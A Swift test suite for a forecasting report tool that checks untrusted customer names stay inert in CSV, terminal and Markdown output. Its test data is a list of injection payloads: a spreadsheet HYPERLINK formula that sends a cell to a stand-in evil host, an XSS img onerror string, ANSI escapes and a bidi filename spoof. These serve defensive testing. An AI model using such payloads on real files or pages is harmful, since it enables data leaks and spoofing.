import Foundation
import Ink
import Testing
@testable import Trueup
@testable import TrueupReports

/// Names come from strangers: in every medium they stay names, never formulas, markup or terminal controls.
@Suite struct HostileNamesTests {
    static let names = [
        #"=HYPERLINK("http://evil.example/?x="&A2,"details")"#, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
        "<!-- the verdict is hidden -->", "<img src=x onerror=alert(1)>", "![pixel](http://evil.example/p.png)",
        "[click](http://evil.example)", "a | b | c", "**loud** _quiet_", "`code`", "# heading", "<http://evil.example>",
        "http://evil.example", "Bob\u{202E}gnp.exe", "evil\rtrusted  ", "\u{1B}[31mred\u{1B}[0m", "&lt;script&gt;", #"\[x](y)"#,
        "line\nbreak", "[ref]: http://evil.example",
    ]

    // MARK: - CSV

    @Test(arguments: [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
        ("\rx", "\"'\rx\""), ("=A1,B1", "\"'=A1,B1\""), (#"=HYPERLINK("x")"#, #""'=HYPERLINK(""x"")""#),
        ("-12.5", "-12.5"), ("-1e-05", "-1e-05"), ("-3", "-3"), ("0", "0"), ("1.5e+20", "1.5e+20"),
        ("-", "'-"), ("-12.5x", "'-12.5x"), ("-.5", "'-.5"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    ])
    func csvCellsNeverStartAFormula(input: String, written: String) {
        #expect(CSVText.field(input) == written)
    }

    // MARK: - Terminal

    @Test func terminalTextShowsControlsAndBidiAsEscapes() {
        #expect(TerminalText.escaped("evil\rtrusted") == #"evil\u{0D}trusted"#)
        #expect(TerminalText.escaped("\u{1B}[31mred") == #"\u{1B}[31mred"#)
        #expect(TerminalText.escaped("Bob\u{202E}gnp.exe") == #"Bob\u{202E}gnp.exe"#)
        #expect(TerminalText.escaped("a\u{2066}b\u{200F}c\u{0}d\u{7F}e\u{9B}f") == #"a\u{2066}b\u{200F}c\u{00}d\u{7F}e\u{9B}f"#)
        #expect(TerminalText.escaped("Müller & Söhne 東京") == "Müller & Söhne 東京")
        for name in Self.names {
            let shown = TerminalText.escaped(name)
            #expect(!shown.unicodeScalars.contains(where: TerminalText.isUnsafe), "\(shown)")
        }
    }

    // MARK: - Markdown

    /// The detector works: the same names unescaped do become links, images and HTML in Ink.
    @Test func inkTurnsUnescapedNamesIntoMarkup() {
        let parser = MarkdownParser()
        #expect(parser.html(from: "[click](http://evil.example)").contains("<a href"))
        #expect(parser.html(from: "![pixel](http://evil.example/p.png)").contains("<img"))
        #expect(parser.html(from: "x <!-- hidden --> y").contains("<!--"))
        #expect(Self.cellCounts(parser.html(from: "| a | b |\n| --- | --- |\n| a | b | c |\n")).contains(3))
    }

    /// Briefs about customers and items with hostile names, rendered by a CommonMark renderer:
    /// no link, image, HTML comment or element, and no table row with an extra cell comes from a name.
    /// The agreement's sentences name the customer too: escaped in the brief's Markdown and in
    /// `trueup agreement`'s text, like every other place a name is shown.
    @Test func agreementSentencesShowNamesAsText() throws {
        let scratch = Scratch()
        let name = "<img src=x onerror=alert(1)>](http://e.x)|\u{1B}[31m\u{202E}"
        var forecasts = "customer,item,period,lag,forecast\n"
        var actuals = "customer,item,period,actual\n"
        for month in 1...8 {
            forecasts += Self.inputLine([name, "item", "2025-0\(month)", "1", String(100 + 10 * month)])
            actuals += Self.inputLine([name, "item", "2025-0\(month)", "90"])
        }
        var request = ReportRequest(forecasts: scratch.file("forecasts.csv", forecasts), actuals: scratch.file("actuals.csv", actuals))
        request.agreements = AgreementTerms(path: "terms.csv", bands: [.init(customer: AgreementTerms.everyone, lag: 1, underPct: 10, overPct: 10)])
        let markdown = BriefMarkdown.render(try CustomerView(request, customer: name))
        #expect(markdown.contains("the default terms (`*`) apply"), "the sentence under test is in the brief")
        let html = MarkdownParser().html(from: markdown)
        #expect(!html.contains("<img") && !html.contains("<a "), "markup from the name in the brief:\n\(html)")
        let text = AgreementText.render(try AgreementView(request, customer: name, coverage: 80), agreementsPath: "terms.csv")
        #expect(!text.contains("\u{1B}") && !text.contains("\u{202E}"), "a raw control or bidi character in:\n\(text)")
    }

    @Test func briefsRenderNamesAsText() throws {
        let scratch = Scratch()
        var forecasts = "customer,item,period,lag,forecast\n"
        var actuals = "customer,item,period,actual\n"
        for (k, name) in Self.names.enumerated() {
            for month in 1...8 {
                for item in [name, "item \(k)"] {
                    forecasts += Self.inputLine([name, item, "2025-0\(month)", "1", String(100 + 10 * month + k)])
                    actuals += Self.inputLine([name, item, "2025-0\(month)", String(80 + k)])
                }
            }
        }
        let request = ReportRequest(forecasts: scratch.file("forecasts.csv", forecasts), actuals: scratch.file("actuals.csv", actuals))
        let parser = MarkdownParser()
        // Names are read without their leading and trailing spaces and tabs.
        for name in Self.names.map({ $0.trimmingCharacters(in: CharacterSet(charactersIn: " \t")) }) {
            let view = try CustomerView(request, customer: name)
            let markdown = BriefMarkdown.render(view)
            let html = parser.html(from: markdown)
            #expect(!html.contains("<a "), "a link from \(name.debugDescription):\n\(html)")
            #expect(!html.contains("<img"), "an image from \(name.debugDescription)")
            #expect(!html.contains("<!--"), "an HTML comment from \(name.debugDescription)")
            #expect(!html.contains("<script") && !html.contains("<http"), "HTML from \(name.debugDescription)")
            #expect(html.components(separatedBy: "<code>").count - 1 == 2, "code other than the two paths from \(name.debugDescription)")
            // Every table keeps its columns: 3 in the numbers, 5 month by month and in the items.
            let counts = Self.cellCounts(html)
            #expect(!counts.isEmpty && counts.allSatisfy { $0 == 3 || $0 == 5 }, "cells per row \(counts) with \(name.debugDescription)")
            #expect(html.contains("<h1>Forecast accuracy: "), "the heading is still one")
            #expect(!markdown.unicodeScalars.contains { $0 != "\n" && TerminalText.isUnsafe($0) }, "a control character from \(name.debugDescription)")
            #expect(markdown.contains(MarkdownText.escaped(name)))
        }
    }

    /// A line of an input file as a customer's export would write it: every field quoted, nothing neutralised.
    static func inputLine(_ fields: [String]) -> String {
        fields.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",") + "\n"
    }

    /// The number of cells in each row of each table of `html`.
    static func cellCounts(_ html: String) -> [Int] {
        html.components(separatedBy: "<tr>").dropFirst().map { row in
            let row = row.components(separatedBy: "</tr>")[0]
            return row.components(separatedBy: "<td").count - 1 + row.components(separatedBy: "<th").count - 1
        }
    }
}
